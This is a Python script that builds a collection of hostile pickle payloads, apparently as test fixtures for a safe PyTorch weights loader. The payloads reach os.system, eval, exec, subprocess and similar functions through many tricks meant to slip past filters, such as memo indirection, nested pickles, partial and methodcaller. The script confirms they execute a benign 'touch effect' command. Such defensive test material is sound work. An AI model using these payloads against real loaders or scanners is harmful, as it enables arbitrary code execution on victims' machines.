#!/usr/bin/env python3
"""Writes pickles that ask for something other than tensors, as `hostile_pickles.json`: names to hexadecimal digits.

  ./make_hostile_pickles.py

Those that Python's own unpickler runs are run here, in a folder that goes away, to see that they would have an effect:
each leaves a file named `effect`.
"""
import json
import os
import pickle
import subprocess
import sys
import tempfile

COMMAND = "touch effect"


def text(value, short=False):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if short else b"X" + len(data).to_bytes(4, "little") + data


def name(module, member, how="c"):
    if how == "c":
        return f"c{module}\n{member}\n".encode()
    return text(module, True) + text(member, True) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


def proto(version, body):
    return (bytes([0x80, version]) if version >= 2 else b"") + body + b"."


class Reduce:
    """What is unpickled by calling `function`."""

    def __init__(self, function, *arguments):
        self.value = (function, arguments)

    def __reduce__(self):
        return self.value


def effective():
    """Those that run under Python."""
    system = text(COMMAND)
    for version in range(6):
        yield f"reduce in protocol {version}", pickle.dumps(Reduce(os.system, COMMAND), version)
        yield f"eval in protocol {version}", pickle.dumps(Reduce(eval, f"__import__('os').system('{COMMAND}')"), version)
        yield f"in a dictionary, protocol {version}", pickle.dumps({"w": Reduce(os.system, COMMAND)}, version)
        yield f"in a list of lists, protocol {version}", pickle.dumps([[Reduce(os.system, COMMAND)]], version)
    for module, member in [("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("os", "popen")]:
        yield f"GLOBAL {module}.{member}", proto(2, call(name(module, member), system))
        yield f"STACK_GLOBAL {module}.{member}", proto(4, call(name(module, member, "stack"), system))
        yield f"INST {module}.{member}", proto(0, b"(" + f"V{COMMAND}\n".encode() + f"i{module}\n{member}\n".encode())
    yield "OBJ subprocess.Popen", proto(2, b"(" + name("subprocess", "Popen") + b"(" + text("touch") + text("effect") + b"lo")
    yield "NEWOBJ subprocess.Popen, with BUILD", proto(
        2, name("subprocess", "Popen") + b")\x81}(" + text("x") + text("y") + b"ub0" + call(name("os", "system"), system))
    yield "GLOBAL behind POP", proto(2, b"N0" + call(name("os", "system"), system))
    yield "GLOBAL behind DUP", proto(2, text("x") + b"20" + call(name("os", "system"), system))
    yield "GLOBAL from the memo", proto(2, name("os", "system") + b"q\x00" + b"0h\x00(" + system + b"tR")
    yield "GLOBAL under a long place of the memo", proto(
        2, name("os", "system") + b"r\x00\x00\x01\x00" + b"0j\x00\x00\x01\x00(" + system + b"tR")
    yield "STACK_GLOBAL of names in the memo", proto(
        4, text("os") + b"\x94" + text("system") + b"\x94" + b"00h\x00h\x01\x93(" + system + b"tR")
    yield "STACK_GLOBAL through another module", proto(4, call(name("shutil", "os.system", "stack"), system))
    yield "STACK_GLOBAL through an attribute", proto(
        4, call(name("collections", "OrderedDict.__init__.__class__.__base__", "stack")) + b"0" + call(name("os", "system"), system))
    yield "getattr of a module", proto(
        2, call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), system))
    yield "exec", proto(2, call(name("builtins", "exec"), text(f"import os; os.system('{COMMAND}')")))
    yield "map over eval", proto(2, call(name("builtins", "list"), call(
        name("builtins", "map"), name("builtins", "eval"), b"](" + text(f"__import__('os').system('{COMMAND}')") + b"e")))
    yield "timeit", proto(2, call(name("timeit", "timeit"), text("0"), text(f"import os; os.system('{COMMAND}')"), b"", b""))
    yield "a pickle in a pickle", proto(3, call(
        name("pickle", "loads"), b"C" + bytes([len(INNER)]) + INNER))
    yield "partial", proto(2, call(call(name("functools", "partial"), name("os", "system"), system)))
    yield "methodcaller", proto(2, call(
        call(name("operator", "methodcaller"), text("system"), system), call(name("importlib", "import_module"), text("os"))))
    yield "behind an ordered dictionary", proto(
        2, name("collections", "OrderedDict") + b")R(" + text("w") + call(name("os", "system"), system) + b"u")
    yield "as a key", proto(2, b"}(" + call(name("os", "system"), system) + b"Nu")
    yield "as a state", proto(
        2, name("collections", "OrderedDict") + b")R}" + text("x") + call(name("os", "system"), system) + b"sb")
    yield "behind the value", proto(2, b"}0" + call(name("os", "system"), system) + b"0}")


INNER = pickle.dumps(Reduce(os.system, COMMAND), 2)


def others():
    """Those that need PyTorch, or that Python refuses too."""
    tensor = name("torch._utils", "_rebuild_tensor_v2")
    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x01tQ"
    for module, member in [
            ("torch", "load"), ("torch.hub", "load"), ("torch.storage", "_load_from_bytes"), ("torch.jit", "load"),
            ("torch._utils", "_rebuild_tensor"), ("torch._utils", "_rebuild_meta_tensor_no_storage"),
            ("torch.serialization", "os.system"), ("torch._utils", "os.system"), ("torch", "os.system"),
            ("torch", "_utils._rebuild_tensor_v2"), ("torch.FloatStorage", "from_file"), ("torch", "FloatStorage.from_file"),
            ("torch", "UntypedStorage"), ("torch._tensor", "_rebuild_from_type_v2"), ("numpy", "load"),
            ("numpy.core.multiarray", "_reconstruct"), ("_codecs", "encode"), ("collections", "OrderedDict.fromkeys"),
            ("collections ", "OrderedDict"), ("", "OrderedDict"), ("os\x00", "system"), ("__main__", "system"),
            ("torch.nn.parameter", "Parameter"), ("torch", "Size"), ("torch", "device")]:
        yield f"{module!r}.{member!r}", proto(2, call(name(module, member), text(COMMAND)))
    yield "EXT1", proto(2, b"\x82\x01)R")
    yield "EXT2", proto(2, b"\x83\x01\x00)R")
    yield "EXT4", proto(2, b"\x84\x01\x00\x00\x00)R")
    yield "PERSID", proto(0, f"P{COMMAND}\n".encode())
    yield "BINPERSID of a text", proto(2, text(COMMAND) + b"Q")
    yield "BINPERSID of a module", proto(2, b"(" + text("module") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x01tQ")
    yield "BINPERSID of a function", proto(2, b"(" + text("storage") + name("os", "system") + text("0") + text("cpu") + b"K\x01tQ")
    yield "a tensor called with a function", proto(2, call(tensor, name("os", "system"), b"K\x00", b")", b")", b"\x89", b"N"))
    yield "a storage called", proto(2, call(name("torch", "FloatStorage"), text(COMMAND)))
    yield "an ordered dictionary of pairs", proto(2, call(name("collections", "OrderedDict"), b"]"))
    yield "a text called", proto(2, text("os.system") + b"(" + text(COMMAND) + b"tR")
    yield "a tensor that is built", proto(2, call(tensor, storage, b"K\x00", b")", b")", b"\x89", b"}") + b"}b")
    yield "a list that is built", proto(2, b"]}b")
    yield "NEWOBJ of an ordered dictionary", proto(2, name("collections", "OrderedDict") + b")\x81")
    yield "NEWOBJ_EX", proto(4, name("collections", "OrderedDict") + b")}\x92")
    yield "STACK_GLOBAL of integers", proto(4, b"K\x01K\x02\x93")
    yield "STACK_GLOBAL of an empty stack", proto(4, b"\x93")
    yield "REDUCE of an empty stack", proto(2, b"R")
    yield "a name without an end", b"\x80\x02cos\nsystem"
    yield "protocol 6", proto(2, b"")[:1] + b"\x06" + call(name("os", "system"), text(COMMAND)) + b"."
    yield "protocol 1 opcodes", b"(" + b"U\x0c" + COMMAND.encode() + b"ios\nsystem\n."
    yield "BYTEARRAY8 and NEXT_BUFFER", proto(5, b"\x97")


def main():
    cases = {}
    for label, data in effective():
        with tempfile.TemporaryDirectory() as folder:
            subprocess.run(
                [sys.executable, "-c", "import pickle, sys, time\ntry: pickle.load(sys.stdin.buffer)\nfinally: time.sleep(0.05)"],
                input=data, cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            if not os.path.exists(os.path.join(folder, "effect")):
                print("no effect under Python:", label)
        cases[label] = data.hex()
    for label, data in others():
        cases[label] = data.hex()
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile_pickles.json")
    with open(path, "w") as file:
        json.dump(cases, file, indent=1)
        file.write("\n")
    print(len(cases), "pickles")


if __name__ == "__main__":
    main()
